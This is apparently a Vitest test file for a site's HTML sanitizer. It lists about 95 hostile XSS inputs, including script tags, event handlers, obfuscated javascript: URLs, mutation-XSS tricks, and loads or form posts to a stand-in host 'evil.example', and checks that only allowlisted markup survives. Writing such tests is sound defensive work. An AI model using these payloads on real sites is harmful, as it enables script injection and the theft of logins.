// @vitest-environment happy-dom
import { describe, expect, test } from 'vitest';
import { sanitizeHtml } from '#lib/safe-html.ts';

const tab = '\t';
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="/a.png" onload="alert(1)">',
  '<img src="/a.png" onerror=alert`1`>',
  '<img/src="/a.png"/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:image/png;base64,AAAA">',
  '<img src="https://evil.example/pixel.png">',
  '<img src="//evil.example/pixel.png">',
  '<img src="/\\evil.example/pixel.png">',
  '<img src="\\\\evil.example/x">',
  `<img src="/${tab}/evil.example/x">`,
  '<img srcset="https://evil.example/x 1x" src="/a.png">',
  '<img src="/a.png" style="background:url(//evil.example)">',
  '<img src="/a.png" usemap="#m"><map name="m"><area href="javascript:alert(1)"></map>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  `<a href="java${tab}script:alert(1)">x</a>`,
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  `<a href="/${tab}/evil.example">x</a>`,
  '<a href="https:/\\evil.example">x</a>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<a href="#" ONCLICK=alert(1)>x</a>',
  '<a href="/" target="_blank" ping="//evil.example">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form action="//evil.example"><input name=password><button formaction="//evil.example">x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<select onfocus=alert(1) autofocus><option>x</select>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<style>@import "//evil.example";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<link rel=stylesheet href="//evil.example">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<p style="position:fixed;inset:0">x</p>',
  '<p onmouseover="alert(1)">x</p>',
  '<h2 id="x" onclick="alert(1)">x</h2>',
  "<h2 id='\"><img src=x onerror=alert(1)>'>x</h2>",
  '<h2 id="a b">x</h2>',
  '<table background="javascript:alert(1)"><tr><td background="//evil.example">x</td></tr></table>',
  '<td onclick=alert(1)>x</td>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--<img src="--><img src=x onerror=alert(1)>">',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<x-widget onclick=alert(1)>x</x-widget>',
  '<slot name=x></slot><portal src="//evil.example"></portal>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<button popovertarget=x onclick=alert(1)>x</button>',
  '<p data-opens="login">x</p>',
  '<isindex action="javascript:alert(1)">',
  '"><img src=x onerror=alert(1)>',
  '\'"--></style></script><script>alert(1)</script>',
  '<img src="`<img src=x onerror=alert(1)>`">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<p>\u0000<scr\u0000ipt>alert(1)</script></p>',
  '<a href="mailto:x" name="location">x</a><img name="body" src="/a.png">',
];

const elements = new Set(
  'a b blockquote br caption code dd del dl dt em figcaption figure h2 h3 h4 hr i img kbd li ol p pre strong sub sup table tbody td tfoot th thead tr ul'.split(
    ' ',
  ),
);
const attributes = new Set(
  'href rel src alt width height loading decoding start colspan rowspan scope id'.split(' '),
);

/** Everything in rendered HTML that is not on the short list of what may be there. */
function dangers(html: string): string[] {
  const place = document.createElement('div');
  place.innerHTML = html;
  return [...place.querySelectorAll('*')].flatMap((element) => {
    const name = element.localName;
    const found = elements.has(name) ? [] : [name];
    for (const attribute of element.attributes) {
      if (!attributes.has(attribute.name)) found.push(`${name} ${attribute.name}`);
    }
    const href = element.getAttribute('href');
    if (href !== null && !/^(https?:\/\/[^/\\]|mailto:|#|\/(?![/\\]))[^\s\p{Cc}]*$/u.test(href)) {
      found.push(href);
    }
    const src = element.getAttribute('src');
    if (src !== null && !/^\/(?![/\\])[^\s\p{Cc}]*$/u.test(src)) found.push(src);
    return found;
  });
}

describe('hostile HTML', () => {
  test('there is enough of it, and the judge sees danger', () => {
    expect(new Set(hostile).size).toBeGreaterThanOrEqual(60);
    expect(dangers('<img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>')).toEqual([
      'img onerror',
      'x',
      'javascript:alert(1)',
    ]);
  });

  test.each(hostile)('%s', (html) => {
    const clean = sanitizeHtml(html);
    expect(dangers(clean)).toEqual([]);
    expect(sanitizeHtml(clean)).toBe(clean);
    expect(dangers(`<table><tr><td>${clean}</td></tr></table>`)).toEqual([]);
  });

  test('one after another they are harmless too', () => {
    expect(dangers(sanitizeHtml(hostile.join('\n')))).toEqual([]);
  });
});

describe('what editors write', () => {
  test.each([
    '<h2 id="điều-khoản">Điều khoản</h2><p>One <strong>two</strong> <em>three</em><br />four</p>',
    '<ul><li>one</li></ul><ol start="3"><li>two</li></ol>',
    '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
    '<blockquote><p>Said</p></blockquote><pre><code>a &lt; b</code></pre><hr />',
    '<figure><img src="/_astro/a.webp" alt="A" width="10" height="5" loading="lazy" decoding="async" /><figcaption>A</figcaption></figure>',
    '<a href="/help">h</a><a href="#top">t</a><a href="mailto:a@b.example">m</a>',
    '<dl><dt>RTP</dt><dd>Return to player</dd></dl>',
  ])('stays as it is: %s', (html) => {
    expect(sanitizeHtml(html)).toBe(html);
  });

  test('links that leave the site say so to browsers and search engines', () => {
    expect(sanitizeHtml('<a href="https://a.example/b" rel="opener" target="_blank">x</a>')).toBe(
      '<a href="https://a.example/b" rel="noopener nofollow">x</a>',
    );
  });

  test('a page has one first heading, so a text’s own are second', () => {
    expect(sanitizeHtml('<h1>A</h1><h5>B</h5>')).toBe('<h2>A</h2><h4>B</h4>');
  });
});
